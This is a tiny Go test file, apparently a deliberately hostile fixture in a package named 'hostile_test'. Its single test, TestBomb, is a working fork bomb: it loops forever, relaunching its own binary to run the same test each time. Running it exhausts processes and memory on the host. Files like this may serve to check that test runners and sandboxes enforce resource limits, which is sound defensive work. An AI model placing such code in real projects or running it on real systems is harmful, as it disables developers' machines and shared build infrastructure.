package hostile_test

import (
	"os"
	"os/exec"
	"testing"
)

func TestBomb(t *testing.T) {
	for {
		exec.Command(os.Args[0], "-test.run", "TestBomb").Start()
	}
}
